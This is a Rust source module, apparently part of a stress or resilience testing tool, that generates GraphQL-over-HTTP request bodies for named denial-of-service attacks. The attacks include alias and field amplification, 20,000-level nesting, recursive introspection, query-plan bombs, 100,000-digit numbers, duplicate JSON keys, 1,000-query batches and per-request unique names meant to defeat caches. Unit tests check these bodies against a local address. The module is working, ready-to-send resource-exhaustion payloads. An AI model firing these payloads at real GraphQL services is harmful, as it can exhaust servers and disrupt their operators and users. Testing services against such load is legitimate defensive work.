//! Bodies of GraphQL over HTTP that cost their sender little.

use std::borrow::Cow;

use serde_json::json;

use super::attacks::{Attack, Victim};
use super::dialect::{Dialect, query};

/// Aliases of a list and fields of each object in it. The first are 120,000 fields where the list has
/// 10,000 objects; each is what some service permits, or just beyond.
const LARGE: [(usize, usize); 5] = [(1, 12), (4, 120), (10, 19), (20, 180), (100, 38)];

/// The bodies of an attack, by their number.
pub(super) struct Bodies<'a>(Kind<'a>);

enum Kind<'a> {
    Same(Cow<'a, str>),
    /// In turn.
    Some(Vec<String>),
    /// A new one each time.
    Distinct(Box<dyn Fn(usize) -> String + Sync + 'a>),
}

impl Bodies<'_> {
    pub(super) fn body(&self, number: usize) -> Cow<'_, str> {
        match &self.0 {
            Kind::Same(text) => Cow::Borrowed(text),
            Kind::Some(texts) => Cow::Borrowed(&texts[number % texts.len()]),
            Kind::Distinct(make) => Cow::Owned(make(number)),
        }
    }
}

/// What an attack sends.
pub(super) fn bodies<'a>(attack: Attack, victim: &Victim<'a>) -> Bodies<'a> {
    let Some(dialect) = victim.dialect else {
        return Bodies(Kind::Same(victim.body.into()));
    };
    let (root, leaf) = (dialect.root, dialect.leaf);
    let same = |text: String| Kind::Same(text.into());
    Bodies(match attack {
        Attack::Aliases => same(dialect.aliases(10_000)),
        Attack::Depth => same(query(&("{a".repeat(20_000) + &"}".repeat(20_000)))),
        Attack::Width => same(dialect.wide(3_000)),
        Attack::Introspection => {
            let levels = 12;
            let open = "fields{type{".repeat(levels);
            let close = "}}".repeat(levels);
            same(query(&format!(
                "{{__schema{{types{{{open}name{close}}}}}}}"
            )))
        }
        Attack::PlanBomb => same(dialect.multiplied(root, 30, 600)),
        Attack::LargeAnswer => {
            let large = |&(width, depth): &(usize, usize)| {
                dialect.multiplied(dialect.longest, width, depth)
            };
            Kind::Some(LARGE.iter().map(large).collect())
        }
        Attack::Entities => same(query(&linked(8))),
        Attack::BigNumbers => Kind::Some(big_numbers(dialect)),
        Attack::DuplicateKeys => Kind::Some(duplicate_keys(dialect)),
        Attack::Operations => Kind::Distinct(Box::new(move |number| {
            query(&format!("query q{number}{{a{number}:{root}{{{leaf}}}}}"))
        })),
        Attack::OperationNames => Kind::Distinct(Box::new(move |number| {
            // The text stays the same, so that only the name is new.
            let name = format!("n{number}{}", "x".repeat(500_000));
            json!({"query": format!("{{{root}{{{leaf}}}}}"), "operationName": name}).to_string()
        })),
        Attack::LongNames => Kind::Distinct(Box::new(move |number| dialect.long_name(number))),
        Attack::Batch => same(format!("[{}]", vec![victim.body; 1_000].join(","))),
        _ => Kind::Same(victim.body.into()),
    })
}

/// A link from each entity to ten of the other subgraph, and back.
fn linked(levels: usize) -> String {
    let open: String = (0..levels).map(|level| ["bs{", "as{"][level % 2]).collect();
    format!("{{a{{{open}id{}}}}}", "}".repeat(levels))
}

fn big_numbers(dialect: &Dialect) -> Vec<String> {
    let digits = "9".repeat(100_000);
    let (operation, variables) = dialect.with_variables;
    let operation = json!(operation);
    let (root, leaf) = (dialect.root, dialect.leaf);
    vec![
        format!(r#"{{"query":{operation},"variables":{{{variables},"more":{digits}}}}}"#),
        format!(
            r#"{{"query":{operation},"variables":{{{variables}}},"extensions":{{"n":1e{digits}}}}}"#
        ),
        query(&format!("{{{root}{{{leaf} @skip(if:{digits})}}}}")),
        query(&format!("{{{root}{{{leaf} @skip(if:1e{digits})}}}}")),
    ]
}

fn duplicate_keys(dialect: &Dialect) -> Vec<String> {
    let (operation, variables) = dialect.with_variables;
    let operation = json!(operation);
    let many = vec![variables; 10_000].join(",");
    vec![
        format!(r#"{{"query":{operation},"query":{operation},"variables":{{{variables}}}}}"#),
        format!(r#"{{"query":{operation},"variables":{{{variables},{variables}}}}}"#),
        format!(r#"{{"query":{operation},"variables":{{{many}}}}}"#),
    ]
}

#[cfg(test)]
mod tests {
    use std::collections::HashSet;

    use super::super::dialect::{KNOWN, NEW};
    use super::*;

    #[test]
    fn links_go_back_and_forth() {
        assert_eq!(linked(3), "{a{bs{as{bs{id}}}}}");
    }

    const DIALECT: Dialect = Dialect {
        root: "test",
        longest: "tests",
        kind: "Test",
        leaf: "id",
        with_variables: ("query($n:Int){test{id}}", r#""n":1"#),
        is_federated: false,
    };

    fn of(attack: Attack, number: usize) -> String {
        let victim = Victim {
            address: ([127, 0, 0, 1], 1).into(),
            path: "/",
            body: "{}",
            dialect: Some(&DIALECT),
        };
        bodies(attack, &victim).body(number).into_owned()
    }

    #[test]
    fn bodies_are_new_where_that_is_the_attack() {
        assert_eq!(of(Attack::Load, 7), "{}");
        assert_eq!(
            of(Attack::Operations, 7),
            r#"{"query":"query q7{a7:test{id}}"}"#
        );
        assert_ne!(of(Attack::OperationNames, 1), of(Attack::OperationNames, 2));
        assert_eq!(of(Attack::Aliases, 1), of(Attack::Aliases, 2));
        assert_eq!(of(Attack::Batch, 0).matches("{}").count(), 1_000);
    }

    #[test]
    fn large_answers_are_asked_for_by_short_queries() {
        let shortest = of(Attack::LargeAnswer, 0);
        assert!(
            shortest.contains("{a0:tests{...F}}fragment F on Test{b0:id "),
            "{shortest}"
        );
        for (number, (roots, fields)) in LARGE.into_iter().enumerate() {
            let body = of(Attack::LargeAnswer, number);
            assert_eq!(
                (body.matches(":tests").count(), body.matches(":id ").count()),
                (roots, fields)
            );
            assert!(body.len() < 4_000, "{}", body.len());
        }
    }

    #[test]
    fn long_names_are_new_and_stand_where_a_service_may_repeat_them() {
        let bodies: Vec<String> = (0..6).map(|it| of(Attack::LongNames, it)).collect();
        for (body, (begin, length)) in bodies.iter().zip([
            (r#"{"query":"{tests{n0x"#, 90_000),
            (r#"{"query":"{test{n1x"#, 90_000),
            (r#"{"query":"query n2x"#, 90_000),
            (r#"{"query":"{tests{n3x"#, 300_000),
            (r#"{"query":"{test{n4x"#, 300_000),
            (r#"{"query":"query n5x"#, 300_000),
        ]) {
            assert!(body.starts_with(begin), "{begin}");
            assert!(
                (length..length + 100).contains(&body.len()),
                "{begin}: {}",
                body.len()
            );
        }
    }

    #[test]
    fn ordinary_clients_ask_known_operations_and_a_stream_of_new_ones() {
        let count = NEW * KNOWN * 4;
        let asked: Vec<String> = (0..count).map(|it| DIALECT.ordinary(it)).collect();
        let (new, known): (Vec<_>, Vec<_>) = asked.iter().partition(|it| it.contains("query new"));
        assert_eq!(new.len(), count / NEW);
        assert_eq!(new.iter().collect::<HashSet<_>>().len(), new.len());
        let distinct: HashSet<_> = known.iter().collect();
        assert_eq!(distinct.len(), KNOWN);
        let with_variables = distinct.iter().filter(|it| it.contains("variables"));
        assert_eq!(with_variables.count(), KNOWN / 2);
        assert_eq!(
            DIALECT.ordinary(1),
            r#"{"query":"query known1($n:Int){test{id}}","variables":{"n":1}}"#
        );
        assert_eq!(
            DIALECT.ordinary(2),
            r#"{"query":"query known2{known2:test{id}}"}"#
        );
    }
}
